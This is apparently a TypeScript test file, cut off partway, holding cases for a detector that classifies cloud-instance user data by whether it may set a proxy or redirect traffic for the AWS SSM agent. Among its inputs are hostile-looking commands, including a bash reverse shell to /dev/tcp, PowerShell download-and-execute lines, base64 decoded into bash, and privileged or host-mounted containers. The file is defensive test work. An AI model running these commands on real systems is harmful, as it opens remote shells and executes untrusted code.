import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { configuresProxy } from "../../../../aws/agent";
import { absent, known, unknown, type Answer, type Value } from "../../../../value";
import { base64, inBase64Part, message, part } from "../../../support/user-data";

type Expected = Exclude<Answer, "yes">;
type Cases = readonly (readonly [name: string, text: string, expected: Expected])[];

const script = (...lines: readonly string[]) => ["#!/bin/bash", ...lines, ""].join("\n");
const config = (...lines: readonly string[]) => ["#cloud-config", ...lines, ""].join("\n");
const powershell = (...lines: readonly string[]) => ["<powershell>", ...lines, "</powershell>"].join("\n");
const ignition = (settings: object) => JSON.stringify({ ignition: { version: "3.4.0" }, ...settings });
const COMPRESSED = gzipSync("#!/bin/sh\necho hello\n").toString("utf8");
const KEY = base64("-----BEGIN PUBLIC KEY-----");

const VARIABLES: Cases = [
    ["an export", script("export https_proxy=http://10.0.0.5:3128"), "unknown"],
    ["an assignment in capitals", script("HTTPS_PROXY=http://10.0.0.5:3128"), "unknown"],
    ["all_proxy", script("export all_proxy=socks5://10.0.0.5:1080"), "unknown"],
    [
        "a drop-in of the agent",
        config(
            "write_files:",
            "- path: /etc/systemd/system/amazon-ssm-agent.service.d/http-proxy.conf",
            "  content: |",
            "    [Service]",
            '    Environment="https_proxy=http://10.0.0.5:3128"',
        ),
        "unknown",
    ],
    [
        "the environment of all",
        script("echo 'https_proxy=http://10.0.0.5:3128' >> /etc/environment"),
        "unknown",
    ],
    ["a comment behind a command", script("yum install -y httpd # no http_proxy here"), "no"],
    [
        "a comment of a line",
        script("# http_proxy is not needed, we have endpoints", "systemctl start app"),
        "no",
    ],
    [
        "a comment from which a command makes text",
        script("echo '# https_proxy=http://10.0.0.5:3128' > /opt/e", "sed -i 's/^# //' /opt/e"),
        "unknown",
    ],
    ["a word with a hash", script("curl http://a/x#https_proxy=1 && export https_proxy=$P"), "unknown"],
    ["lines that are deleted", script("sed -i '/http_proxy/d' /etc/environment"), "no"],
    ["variables set to nothing", script("export http_proxy=", "export https_proxy='' HTTP_PROXY=\"\""), "no"],
    ["braces around the scheme", script("export {http,https}_proxy=http://10.0.0.5:3128"), "unknown"],
    ["braces with an empty word", script("export http{,s}_proxy=http://10.0.0.5:3128"), "unknown"],
    ["braces around the end", script("export https_{proxy,PROXY}=http://10.0.0.5:3128"), "unknown"],
    [
        "a list of names",
        script(
            'PROXY_VARS="http_proxy https_proxy"',
            'for v in $PROXY_VARS; do echo "$v=$P" >> /etc/environment; done',
        ),
        "unknown",
    ],
    [
        "a scheme in a variable",
        script("for s in http https; do export ${s}_proxy=http://10.0.0.5:3128; done"),
        "unknown",
    ],
    ["an end in a variable", script("e=proxy", "export https_$e=http://10.0.0.5:3128"), "unknown"],
    [
        "a name in a variable",
        script("read -r name value < /opt/settings", 'export "$name=$value"'),
        "unknown",
    ],
    ["a name in quotes", script('export "ht"tps_proxy=http://10.0.0.5:3128'), "unknown"],
    ["a name across lines", script("export https_\\", "proxy=http://10.0.0.5:3128"), "unknown"],
    [
        "a name in escapes",
        script("printf '\\x68ttps_proxy=http://10.0.0.5:3128' >> /etc/environment"),
        "unknown",
    ],
    [
        "a name in escapes of YAML",
        config('bootcmd: ["echo http\\u0073_proxy=x >> /etc/environment"]'),
        "unknown",
    ],
    [
        "a format",
        script("printf '%s_proxy=http://10.0.0.5:3128\\n' http https >> /etc/environment"),
        "unknown",
    ],
    ["sed", script("sed -i 's/^#https_proxy/https_proxy/' /etc/environment"), "unknown"],
    ["a default that is assigned", script(': "${https_proxy:=http://10.0.0.5:3128}"'), "unknown"],
    [
        "python",
        "#!/usr/bin/python3\nimport os\nos.environ['https_' + 'proxy'] = 'http://10.0.0.5:3128'\n",
        "unknown",
    ],
    ["exports from a file", script("export $(grep -v '^#' /opt/app/.env | xargs)"), "unknown"],
    [
        "a template that ends a name",
        "## template: jinja\n#!/bin/sh\nexport {{ v1.cloud_name }}_proxy=x\n",
        "unknown",
    ],
    [
        "a boothook",
        "#cloud-boothook\n#!/bin/sh\necho https_proxy=http://10.0.0.5:3128 >> /etc/environment\n",
        "unknown",
    ],
    [
        "the environment of systemd",
        script("systemctl set-environment https_proxy=http://10.0.0.5:3128"),
        "unknown",
    ],
    [
        "an address in a template of the agent's unit",
        script(
            "export PROXY_URL=http://10.0.0.5:3128; envsubst < /opt/x > /etc/systemd/system/amazon-ssm-agent.service.d/override.conf",
        ),
        "unknown",
    ],
    [
        "a unit of the agent from the image",
        script("cp /opt/acme/o.conf /etc/systemd/system/amazon-ssm-agent.service.d/"),
        "unknown",
    ],
    [
        "a unit of the agent that is shown",
        script(
            "mkdir -p /etc/systemd/system/amazon-ssm-agent.service.d",
            "cat > /etc/systemd/system/amazon-ssm-agent.service.d/o.conf <<EOF",
            "[Service]",
            "Restart=always",
            "EOF",
        ),
        "no",
    ],
    [
        "the agent, installed and enabled",
        script("yum install -y amazon-ssm-agent && systemctl enable amazon-ssm-agent.service"),
        "no",
    ],
    [
        "a place in a text",
        script(
            "sed -i 's|__PROXY__|http://10.0.0.5:3128|' /etc/systemd/system/amazon-ssm-agent.service.d/o.conf",
        ),
        "unknown",
    ],
    ["another place in a text", script("sed -i 's|__PORT__|8080|' /opt/app/settings"), "no"],
    [
        "an option of a script of the image",
        script("/opt/acme/bootstrap.sh --proxy http://10.0.0.5:3128"),
        "unknown",
    ],
    ["an option in a variable", script("/opt/acme/bootstrap.sh --https-proxy=$P"), "unknown"],
    [
        "an option in a list",
        config("runcmd:", "- [/opt/acme/bootstrap, --proxy, 'http://10.0.0.5:3128']"),
        "unknown",
    ],
    ["a mode of kube-proxy", script("/opt/bin/kube-proxy --proxy-mode=iptables"), "no"],
    [
        "what Ansible is told",
        script("ansible-playbook -c local -i localhost, /opt/acme/site.yml -e http_proxy_host=10.0.0.5"),
        "unknown",
    ],
    [
        "what Ansible is told in JSON",
        script(`ansible-playbook -c local /opt/acme/site.yml -e '{"proxy":"http://10.0.0.5:3128"}'`),
        "unknown",
    ],
    [
        "Ansible without one",
        script("ansible-playbook -c local -i localhost, /opt/acme/site.yml -e port=80"),
        "no",
    ],
    [
        "settings of a service of the image",
        script(
            "printf 'PROXY_HOST=10.0.0.5\\nPROXY_PORT=3128\\n' > /etc/sysconfig/acme",
            "systemctl start acme",
        ),
        "unknown",
    ],
    [
        "a setting of a service of the image",
        script("echo PROXY=http://10.0.0.5:3128 > /etc/sysconfig/acme", "systemctl start acme"),
        "unknown",
    ],
    [
        "a unit of the agent from a file",
        script("cat /opt/acme/o.conf > /etc/systemd/system/amazon-ssm-agent.service.d/o.conf"),
        "unknown",
    ],
    ["a unit of the agent that it reads", script("cat /etc/systemd/system/amazon-ssm-agent.service"), "no"],
    ["an option with a name", script("/opt/acme/bootstrap.sh --proxy-host proxy.example.com"), "unknown"],
    ["an empty setting", script('PROXY_URL=""', "echo hello"), "no"],
    [
        "a playbook for HAProxy",
        script("ansible-playbook -c local /opt/acme/haproxy.yml -e haproxy_port=80"),
        "no",
    ],
    [
        "an option of a script that names another program",
        script("/opt/acme/setup.sh install curl --proxy http://10.0.0.5:3128"),
        "unknown",
    ],
];

const SYSTEMS: Cases = [
    ["Bottlerocket, dotted", '[settings]\nnetwork.https-proxy = "10.0.0.5:3128"\n', "unknown"],
    ["Bottlerocket, a table", '[settings.network]\nhttps-proxy = "10.0.0.5:3128"\n', "unknown"],
    [
        "Bottlerocket without one",
        '[settings.kubernetes]\ncluster-name = "main"\n[settings.network]\nno-proxy = []\n',
        "no",
    ],
    [
        "Bottlerocket with a bootstrap container",
        '[settings.bootstrap-containers.setup]\nsource = "x.dkr.ecr.eu-west-1.amazonaws.com/setup"\n',
        "unknown",
    ],
    [
        "Bottlerocket with an admin container",
        `[settings.host-containers.admin]\nenabled = true\nuser-data = "${base64('{"ssh":{}}')}"\n`,
        "no",
    ],
    ["Windows, WinHTTP without a proxy", powershell("netsh winhttp reset proxy"), "no"],
    [
        "Windows, the proxy of people off",
        powershell("Set-ItemProperty -Path 'HKCU:\\Software\\Internet Settings' -Name ProxyEnable -Value 0"),
        "no",
    ],
    ["Windows, WinHTTP", powershell("netsh winhttp set proxy 10.0.0.5:3128"), "unknown"],
    [
        "Windows, a variable of the machine",
        powershell('[Environment]::SetEnvironmentVariable("https_proxy", "http://10.0.0.5:3128", "Machine")'),
        "unknown",
    ],
    [
        "Windows, a variable of any name",
        powershell("$all.Keys | % { [Environment]::SetEnvironmentVariable($_, $all[$_], 'Machine') }"),
        "unknown",
    ],
    [
        "Windows, the registry of the agent",
        powershell(
            '$vars = @("http_proxy=10.0.0.5:3128", "https_proxy=10.0.0.5:3128")',
            "New-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Services\\AmazonSSMAgent -Name Environment -Value $vars",
        ),
        "unknown",
    ],
    ["Windows, a batch", "<script>\nsetx /M HTTPS_PROXY http://10.0.0.5:3128\n</script>", "unknown"],
    [
        "Windows, the settings of the browser",
        powershell("Set-ItemProperty $k -Name ProxyServer -Value 10.0.0.5:3128"),
        "unknown",
    ],
    ["Windows, an encoded command", powershell("powershell -EncodedCommand ZQBjAGgAbwA="), "unknown"],
    [
        "Windows, a program from the internet",
        powershell("iex ((New-Object Net.WebClient).DownloadString('https://example.com/setup.ps1'))"),
        "unknown",
    ],
    [
        "Windows, a feature",
        powershell("Install-WindowsFeature -Name Web-Server -IncludeManagementTools"),
        "no",
    ],
    [
        "Windows, a new name",
        powershell("Rename-Computer -NewName web -Force", "Restart-Service AmazonSSMAgent"),
        "no",
    ],
    [
        "Bottlerocket, a table in a line",
        '[settings]\nnetwork = { https-proxy = "10.0.0.5:3128" }\n',
        "unknown",
    ],
    [
        "Windows, the registry of WinHTTP",
        powershell(
            "Set-ItemProperty -Path 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Internet Settings\\Connections' -Name WinHttpSettings -Value $bytes",
        ),
        "unknown",
    ],
    [
        "Windows, a domain, whose policy may set one",
        powershell("Add-Computer -DomainName corp.example.com -Credential $c -Restart"),
        "unknown",
    ],
    [
        "Windows, other name servers",
        powershell("Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 10.0.0.2"),
        "unknown",
    ],
    [
        "Windows, a VPN",
        powershell("Add-VpnConnection -Name corp -ServerAddress vpn.example.com", "rasdial corp"),
        "unknown",
    ],
    [
        "Windows, the hosts",
        powershell(
            'Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts "10.0.0.9 ssm.eu-west-1.amazonaws.com"',
        ),
        "unknown",
    ],
    ["NixOS", '{ networking.proxy.default = "http://10.0.0.5:3128/"; }\n', "unknown"],
    ["NixOS, in a set", '{ networking = { proxy.httpsProxy = "http://10.0.0.5:3128/"; }; }\n', "unknown"],
    [
        "NixOS, in two sets",
        '{ networking = {\n  proxy = { default = "http://10.0.0.5:3128/"; };\n}; }\n',
        "unknown",
    ],
    [
        "NixOS without one",
        '{ networking.hostName = "web"; services.nginx.recommendedProxySettings = true; }\n',
        "no",
    ],
    [
        "Bottlerocket, by its interface",
        script(`apiclient set --json '{"network":{"https-proxy":"10.0.0.5:3128"}}'`),
        "unknown",
    ],
    [
        "Bottlerocket, by its interface in a list of commands",
        '[settings.bootstrap-commands.net]\ncommands = [["apiclient", "set", "--json", "{\\"network\\": {\\"https-proxy\\": \\"http://10.0.0.5:3128\\"}}"]]\n',
        "unknown",
    ],
    [
        "Bottlerocket, by its interface, without one",
        script(`apiclient set --json '{"network":{"hostname":"web"}}'`),
        "no",
    ],
];

const DETOURS: Cases = [
    [
        "redirection by nftables",
        script("nft add rule inet nat output tcp dport 443 dnat ip to 10.0.0.10:3129"),
        "unknown",
    ],
    [
        "a way in a list",
        config("write_files:", "- content: |", "    routes:", "    - {to: 0.0.0.0/0, via: 10.0.1.9}"),
        "unknown",
    ],
    [
        "a way in a file of keys",
        config("write_files:", "- content: |", "    route1=0.0.0.0/0,10.0.1.9"),
        "unknown",
    ],
    ["a word that is no way", script("cat > /opt/app.yaml <<EOF", "via: email", "EOF"), "no"],
    [
        "words in a page",
        script("echo 'You will be redirected. redirect to /app' > /var/www/index.html"),
        "no",
    ],
    ["a tool for file systems", script("yum install -y amazon-efs-utils stunnel"), "no"],
    ["tools in a list", config("packages:", "- socat", "- conntrack"), "no"],
    ["a tool that runs", config("runcmd:", "- [socat, TCP-LISTEN:443, TCP:10.0.0.5:443]"), "unknown"],
    [
        "a redirection",
        script("iptables -t nat -A OUTPUT -p tcp --dport 443 -j DNAT --to 10.0.0.5:3129"),
        "unknown",
    ],
    ["a tunnel of SSH", script("ssh -f -N -D 1080 bastion.internal"), "unknown"],
    ["WireGuard", script("wg-quick up wg0"), "unknown"],
    ["WireGuard of cloud-init", config("wireguard:", "  interfaces:", "  - name: wg0"), "unknown"],
    ["OpenVPN", script("systemctl enable --now openvpn@client"), "unknown"],
    ["Tailscale", script("tailscale up --authkey $KEY --exit-node=100.64.0.1"), "unknown"],
    [
        "another address for a name",
        script('echo "10.0.0.9 ssm.eu-west-1.amazonaws.com" >> /etc/hosts'),
        "unknown",
    ],
    ["its own name among the hosts", script('echo "127.0.0.1 $(hostname)" >> /etc/hosts'), "no"],
    ["a route", script("ip route add default via 10.0.0.9"), "unknown"],
    [
        "an interface that it attaches",
        script(
            "aws ec2 attach-network-interface --network-interface-id eni-1 --instance-id $ID --device-index 1",
        ),
        "unknown",
    ],
    ["tags that it creates", script("aws ec2 create-tags --resources $ID --tags Key=Name,Value=web"), "no"],
    [
        "a volume that it attaches",
        script("aws ec2 attach-volume --volume-id vol-1 --instance-id $ID --device /dev/sdf"),
        "no",
    ],
    ["addresses that it hides", script("iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE"), "no"],
    [
        "keys of SSH and an owner",
        script("mkdir -p ~/.ssh && chmod 700 ~/.ssh && chown -R app:app /home/app"),
        "no",
    ],
    [
        "settings of SSH and a context",
        script("sed -i s/a/b/ /etc/ssh/sshd_config; chcon -R -t httpd_t /srv"),
        "no",
    ],
    ["a copy of keys", script("cp -r .ssh /home/app/ && chown -R app /home/app"), "no"],
    ["a tunnel of a user", script("sudo -u app nohup autossh -M 0 -N -D 1080 bastion.internal"), "unknown"],
    [
        "a tunnel in a unit",
        script(
            "cat > /etc/systemd/system/t.service <<EOF",
            "ExecStart=/usr/bin/ssh -N -w 0:0 bastion",
            "EOF",
        ),
        "unknown",
    ],
    ["a tunnel in a shell", script("su - app -c 'ssh -fN -L 443:10.0.0.9:443 bastion'"), "unknown"],
    ["a tunnel in a list", config("runcmd:", "- [ssh, -fN, -D, '1080', bastion]"), "unknown"],
    [
        "what others send to a port",
        script("iptables -t nat -A PREROUTING -p tcp --dport 80 -j REDIRECT --to-port 8080"),
        "no",
    ],
    [
        "what it sends itself, in a chain of its own",
        script("iptables -t nat -A MINE -p tcp --dport 443 -j REDIRECT --to-port 8080"),
        "unknown",
    ],
    [
        "addresses for names in a loop",
        script(
            'for svc in ssm ssmmessages; do echo "10.0.0.10 $svc.eu-west-1.amazonaws.com" >> /etc/hosts; done',
        ),
        "unknown",
    ],
    [
        "an address for a name in a variable",
        script('for n in $NAMES; do echo "10.0.0.10 $n" | tee -a /etc/hosts; done'),
        "unknown",
    ],
    [
        "addresses for names in a text",
        script("cat >> /etc/hosts <<EOF", "10.0.0.10 ec2messages.eu-west-1.amazonaws.com", "EOF"),
        "unknown",
    ],
    ["an address for a name of others", script('echo "10.0.0.10 db.internal" >> /etc/hosts'), "no"],
    [
        "names of dnsmasq",
        script("echo address=/eu-west-1.amazonaws.com/10.0.0.10 > /etc/dnsmasq.d/aws.conf"),
        "unknown",
    ],
    [
        "names of unbound",
        script("echo 'local-data: \"ssm.eu-west-1.amazonaws.com A 10.0.0.10\"' > /etc/unbound/a.conf"),
        "unknown",
    ],
    ["names of CoreDNS", script("systemctl enable --now coredns"), "unknown"],
    ["name servers that start again", script("systemctl restart systemd-resolved"), "no"],
    ["name servers that it reads", script("awk '/nameserver/ {print $2}' /etc/resolv.conf"), "no"],
    ["openfortivpn", script("openfortivpn vpn.example.com:443 -u ops"), "unknown"],
    ["ZeroTier", script("zerotier-cli join 8056c2e21c000001"), "unknown"],
    ["strongSwan", script("systemctl enable --now strongswan"), "unknown"],
    ["chisel", script("chisel client https://example.com R:socks"), "unknown"],
    ["cloudflared", script("cloudflared service install $TOKEN"), "unknown"],
    ["Xray", script("/usr/local/bin/xray run -c /etc/xray.json"), "unknown"],
    ["the X-Ray of AWS", script("systemctl enable --now xray"), "no"],
    [
        "a public address",
        script("aws ec2 associate-address --instance-id $ID --allocation-id eipalloc-1"),
        "unknown",
    ],
    [
        "a public address, by PowerShell",
        powershell("Register-EC2Address -InstanceId $id -AllocationId eipalloc-1"),
        "unknown",
    ],
    [
        "a public address, by Python",
        "#!/usr/bin/python3\nimport boto3\nboto3.client('ec2').associate_address(InstanceId=i, AllocationId=a)\n",
        "unknown",
    ],
    [
        "a check of addresses that it ends",
        script("aws ec2 modify-instance-attribute --instance-id $ID --no-source-dest-check"),
        "no",
    ],
    ["other groups", script("aws ec2 modify-instance-attribute --instance-id $ID --groups sg-1"), "unknown"],
    ["a route, in short", script("ip r replace default via 10.0.0.9"), "unknown"],
    ["a route of NetworkManager", script("nmcli connection modify eth0 ipv4.gateway 10.0.0.9"), "unknown"],
    [
        "a route of netplan",
        script("cat > /etc/netplan/99.yaml <<EOF", "routes:", "- to: 0.0.0.0/0", "  via: 10.0.0.9", "EOF"),
        "unknown",
    ],
    [
        "ports that SSH forwards by its settings",
        script(
            "cat > /root/.ssh/config <<EOF",
            "Host t",
            "  LocalForward 443 10.0.0.9:443",
            "EOF",
            "ssh -fN t",
        ),
        "unknown",
    ],
    [
        "options of the metadata",
        script("aws ec2 modify-instance-metadata-options --instance-id $ID --http-tokens required"),
        "no",
    ],
    ["Windows, a route", powershell("route -p add 0.0.0.0 mask 0.0.0.0 10.0.0.9"), "unknown"],
    [
        "Windows, name servers by netsh",
        powershell("netsh interface ip set dns name=Ethernet static 10.0.0.2"),
        "unknown",
    ],
    [
        "Windows, hosts in a variable",
        powershell(
            '$h = "$env:SystemRoot\\System32\\drivers\\etc\\hosts"',
            'foreach ($n in $names) { Add-Content $h "10.0.0.9 $n" }',
        ),
        "unknown",
    ],
    ["a command on another machine", script("ssh -i key ops@db.internal chown -R app /srv"), "no"],
    ["SSH as a service", script("systemctl restart ssh && chown -R app /srv"), "no"],
    ["a tunnel behind its host", script("ssh bastion -N -D 1080"), "unknown"],
    ["a tunnel in a terminal of its own", script("screen -dmS tunnel ssh -N -D 1080 bastion"), "unknown"],
    ["OpenVPN 3", script("openvpn3 session-start --config /etc/openvpn3/c.ovpn"), "unknown"],
    ["Pritunl", script("pritunl-client start abc"), "unknown"],
    ["Netmaker", script("netclient join -t $TOKEN"), "unknown"],
    ["a tunnel of PuTTY", powershell("C:\\tools\\plink.exe -batch -pw $p -N -D 1080 ops@bastion"), "unknown"],
    ["a command by PuTTY", powershell("plink.exe -batch -pw $p ops@db.internal hostname"), "no"],
    [
        "a tunnel of the SSH of Windows",
        powershell("& C:\\Windows\\System32\\OpenSSH\\ssh.exe -N -D 1080 bastion"),
        "unknown",
    ],
    [
        "name servers of DHCP",
        script("echo 'supersede domain-name-servers 10.0.0.2;' >> /etc/dhcp/dhclient.conf"),
        "unknown",
    ],
    [
        "name servers before those of DHCP",
        script("echo 'prepend domain-name-servers 10.0.0.2;' >> /etc/dhcp/dhclient.conf"),
        "unknown",
    ],
    ["names that DHCP asks for", script("echo 'send host-name \"web\";' >> /etc/dhcp/dhclient.conf"), "no"],
    [
        "a route of an interface",
        script("echo 'default via 10.0.0.9' > /etc/sysconfig/network-scripts/route-eth0"),
        "unknown",
    ],
    ["a route that it reads", script("IP=$(ip route | grep 'default via' | awk '{print $3}')"), "no"],
    [
        "a route of networkd",
        config(
            "write_files:",
            "- path: /etc/systemd/network/10.network",
            "  content: |",
            "    [Network]",
            "    Gateway=10.0.0.9",
        ),
        "unknown",
    ],
    [
        "a network of networkd",
        config(
            "write_files:",
            "- path: /etc/systemd/network/10.network",
            "  content: |",
            "    [Network]",
            "    DHCP=yes",
        ),
        "no",
    ],
    [
        "a gateway of calls",
        config(
            "write_files:",
            "- path: /opt/app/settings",
            "  content: |",
            "    API_GATEWAY=https://api.example.com",
        ),
        "no",
    ],
    [
        "a public address, by the program of Windows",
        powershell("aws.exe ec2 associate-address --instance-id $id --allocation-id eipalloc-1"),
        "unknown",
    ],
    [
        "a public address, by the full name of the program",
        powershell(
            '& "C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe" ec2 associate-address --instance-id $id --allocation-id eipalloc-1',
        ),
        "unknown",
    ],
    ["a public address of a list", script("aws-ec2-assign-elastic-ip --valid-ips 10.0.0.0/8"), "unknown"],
    [
        "a gateway in other settings",
        config(
            "write_files:",
            "- path: /opt/app/settings",
            "  content: |",
            "    gateway = https://api.example.com",
        ),
        "no",
    ],
    [
        "a route of an interface to a network",
        script("echo '10.0.0.0/8 via 10.0.0.9' > /etc/sysconfig/network-scripts/route-eth0"),
        "unknown",
    ],
    [
        "name servers of networkd",
        config(
            "write_files:",
            "- path: /etc/systemd/network/10.network",
            "  content: |",
            "    [Network]",
            "    DNS=10.0.0.2",
        ),
        "unknown",
    ],
    ["names of a cluster", script("/etc/eks/bootstrap.sh main --dns-cluster-ip 172.20.0.10"), "no"],
];

const OTHER_PROXIES: Cases = [
    [
        "nginx",
        config(
            "packages: [nginx]",
            "write_files:",
            "- path: /etc/nginx/conf.d/proxy.conf",
            "  content: |",
            "    location / { proxy_pass http://127.0.0.1:8080; proxy_set_header Host $host; proxy_http_version 1.1; }",
        ),
        "no",
    ],
    [
        "httpd",
        script(
            "yum install -y httpd",
            "echo 'ProxyPass / http://127.0.0.1:8080/' > /etc/httpd/conf.d/app.conf",
            "systemctl enable --now httpd",
        ),
        "no",
    ],
    ["HAProxy", script("apt-get install -y haproxy", "systemctl restart haproxy"), "no"],
    [
        "kube-proxy",
        script(
            "/etc/eks/bootstrap.sh main --kubelet-extra-args '--node-labels=a=b'",
            "systemctl restart kube-proxy",
        ),
        "no",
    ],
    ["ProxySQL", script("dnf install -y proxysql", "systemctl enable --now proxysql"), "no"],
    [
        "the proxy of a database",
        script("echo DB_HOST=rds-proxy.internal >> /opt/app/settings", "rds_proxy=rds-proxy.internal"),
        "no",
    ],
    ["curl without a proxy", script("curl --no-proxy '*' -s http://localhost:8080/health"), "no"],
    ["no_proxy alone", script("export no_proxy=169.254.169.254"), "no"],
    ["a setting that is off", config("app:", "  proxy: false"), "no"],
    ["the proxy of apt", config("apt:", "  proxy: http://10.0.0.5:3142"), "no"],
    ["the proxy of yum", script("echo 'proxy=http://10.0.0.5:3128' >> /etc/yum.conf"), "no"],
    ["a variable that is removed", script("unset http_proxy https_proxy HTTP_PROXY"), "no"],
    [
        "a variable that is read",
        script('curl -x "$https_proxy" http://localhost/ || echo "${HTTPS_PROXY:-none}"'),
        "no",
    ],
    ["a word in a comment", script("# this machine stands behind no proxy"), "no"],
    ["a script of the image", script("/usr/local/bin/set-proxy 10.0.0.5:3128"), "unknown"],
    [
        "the host of a proxy of a database",
        script("echo DB_PROXY_HOST=rds-proxy.internal >> /opt/app/settings"),
        "no",
    ],
    [
        "nginx, by sed",
        script(
            "sed -i 's|http://app|http://127.0.0.1:8080|; s|proxy_pass .*|proxy_pass http://app;|' /etc/nginx/nginx.conf",
        ),
        "no",
    ],
    ["the proxy of a call", script("curl --proxy http://10.0.0.5:3128 -s https://example.com/version"), "no"],
    [
        "the proxy of a call, in short",
        script("V=$(curl -x 10.0.0.5:3128 -s https://example.com/version)"),
        "no",
    ],
    [
        "Windows, the proxy of a call",
        powershell("$r = Invoke-RestMethod -Proxy http://10.0.0.5:3128 -Uri https://example.com/version"),
        "no",
    ],
    ["Docker without its own", script("dockerd --userland-proxy=false"), "no"],
    [
        "the proxy of apt, in a file",
        script(`echo 'Acquire::http::Proxy "http://10.0.0.5:3142";' > /etc/apt/apt.conf.d/01proxy`),
        "no",
    ],
    ["the proxy of Teleport", script("teleport node configure --proxy=teleport.example.com:443"), "no"],
];

const HIDDEN: Cases = [
    ["compressed text", COMPRESSED, "unknown"],
    ["text in two bytes a letter", Buffer.from("#!/bin/sh\necho", "utf16le").toString("utf8"), "unknown"],
    ["files from elsewhere", "#include\nhttps://example.com/user-data\n", "unknown"],
    ["files from elsewhere, once", "#include-once\nhttps://example.com/user-data\n", "unknown"],
    [
        "an include of C",
        script(
            "cat > /tmp/a.c <<'EOF'",
            "#include <stdio.h>",
            "int main() { return 0; }",
            "EOF",
            "gcc -o /tmp/a /tmp/a.c",
        ),
        "no",
    ],
    ["code for other parts", "#part-handler\ndef list_types(): return ['text/x-mine']\n", "unknown"],
    ["an archive", "#cloud-config-archive\n- type: text/x-shellscript\n  content: echo\n", "unknown"],
    [
        "a file in base64",
        config("write_files:", "- path: /opt/run.sh", "  encoding: b64", `  content: ${KEY}`),
        "unknown",
    ],
    [
        "a compressed file",
        config("write_files:", "- path: /opt/run.sh", "  encoding: gz+b64", "  content: H4sIAAAA"),
        "unknown",
    ],
    [
        "binary of YAML",
        config("write_files:", "- path: /opt/run.sh", "  content: !!binary |", `    ${KEY}`),
        "unknown",
    ],
    [
        "a key in base64, decoded into a file of its own",
        script(`echo ${KEY} | base64 -d > /etc/app/public.pem`),
        "no",
    ],
    ["a license in base64", script(`echo ${KEY} | base64 -d > /opt/vendor/server.lic`), "no"],
    ["settings of a program in base64", script(`echo ${KEY} | base64 -d > /opt/app/config.yaml`), "no"],
    [
        "settings of the network in base64",
        script(`echo ${KEY} | base64 -d > /etc/netplan/50.yaml`),
        "unknown",
    ],
    ["a shell with a plain text", script("sudo -u app bash -ec 'mkdir -p ~/logs; touch ~/logs/a'"), "no"],
    ["code that runs a variable", script("python3 -c 'exec(code)'"), "unknown"],
    [
        "a copy to a bucket at night",
        script("echo '0 3 * * * root aws s3 sync /d s3://b' > /etc/cron.d/b"),
        "no",
    ],
    [
        "a site that speaks of redirection in a comment",
        script(
            "cat > /etc/nginx/conf.d/a.conf <<'EOF'",
            "return 301 https://$host; # redirect to https",
            "EOF",
        ),
        "no",
    ],
    ["a script in base64", script(`echo ${KEY} | base64 -d > /usr/local/bin/setup.sh`), "unknown"],
    ["a script in base64, run", script(`echo ${KEY} | base64 --decode | bash`), "unknown"],
    ["a unit in base64", script(`base64 -d <<< ${KEY} > /etc/systemd/system/a.service`), "unknown"],
    ["a text that is evaluated", script('eval "$COMMANDS"'), "unknown"],
    [
        "a command behind a comment that ends in a backslash",
        script("# hello \\", 'eval "$COMMANDS"'),
        "unknown",
    ],
    ["a variable that is run", script("$COMMANDS"), "unknown"],
    ["what Puppet says", script("puppet agent --test"), "unknown"],
    ["what Ansible pulls", script("ansible-pull -U https://github.com/example/setup.git"), "unknown"],
    [
        "what the Ansible of cloud-init pulls",
        config("ansible:", "  pull:", "    url: https://github.com/example/setup.git"),
        "unknown",
    ],
    [
        "a template of its own name",
        "## template: jinja\n#cloud-config\nhostname: web-{{ v1.instance_id }}\n",
        "no",
    ],
    [
        "a template with statements",
        "## template: jinja\n#!/bin/sh\n{% if v1.region == 'x' %}echo{% endif %}\n",
        "unknown",
    ],
    [
        "a template with a tag",
        "## template: jinja\n#!/bin/sh\n{{ ds.meta_data.tags.instance.run }}\n",
        "unknown",
    ],
    ["a container that is privileged", script("docker run --privileged -d example/setup"), "unknown"],
    ["a container", script("docker run -d -p 80:80 nginx:1.27"), "no"],
    [
        "a container with a file of settings",
        script("docker run -d -v /opt/n.conf:/etc/nginx/nginx.conf:ro nginx"),
        "no",
    ],
    ["a container with the time", script("docker run -d -v /etc/localtime:/etc/localtime:ro nginx"), "no"],
    [
        "a container with certificates",
        script("docker run -d -v /etc/ssl/certs:/etc/ssl/certs:ro nginx"),
        "no",
    ],
    ["a container with all files", script("docker run -d -v /:/host:ro example/setup"), "unknown"],
    ["a container with all settings", script("docker run -d --volume=/etc:/host example/setup"), "unknown"],
    [
        "a container with all files, mounted",
        script("docker run -d --mount type=bind,source=/,target=/host example/setup"),
        "unknown",
    ],
    [
        "a container with other containers",
        script("docker run -d -v /var/run/docker.sock:/var/run/docker.sock example/setup"),
        "unknown",
    ],
    [
        "a container with a right over the network",
        script("docker run -d --network host --cap-add NET_ADMIN example/setup"),
        "unknown",
    ],
    ["a container with all rights", script("docker run -d --cap-add=ALL example/setup"), "unknown"],
    [
        "a container with a device of tunnels",
        script("docker run -d --device /dev/net/tun example/setup"),
        "unknown",
    ],
    ["a container with all processes", script("docker run -d --pid host example/setup"), "unknown"],
    ["a line that is too long to read", script("echo " + "a ".repeat(2_100)), "unknown"],
    ["a long word of base64", script(`echo ${"A".repeat(60_000)} > /opt/ca.pem`), "no"],
    [
        "a container with a folder in a variable",
        script('docker run -v "$DIR:/host" example/setup'),
        "unknown",
    ],
    ["a container with its own folder", script('docker run -v "$PWD:/app" example/app'), "no"],
    [
        "Windows, a text that it makes a command",
        powershell("$c = irm https://example.com/x.ps1", "& ([scriptblock]::Create($c))"),
        "unknown",
    ],
    ["a shell of others", script("bash -i >& /dev/tcp/10.0.0.4/80 0>&1"), "unknown"],
    [
        "Ignition with a file in base64",
        ignition({
            storage: {
                files: [
                    {
                        path: "/etc/environment",
                        contents: { source: `data:;base64,${base64("https_proxy=http://10.0.0.5:3128")}` },
                    },
                ],
            },
        }),
        "unknown",
    ],
    [
        "Ignition with a file in percents",
        ignition({
            storage: {
                files: [
                    {
                        path: "/etc/environment",
                        contents: { source: "data:,http%73_proxy=http://10.0.0.5:3128" },
                    },
                ],
            },
        }),
        "unknown",
    ],
    [
        "Ignition with a harmless file",
        ignition({
            storage: {
                files: [
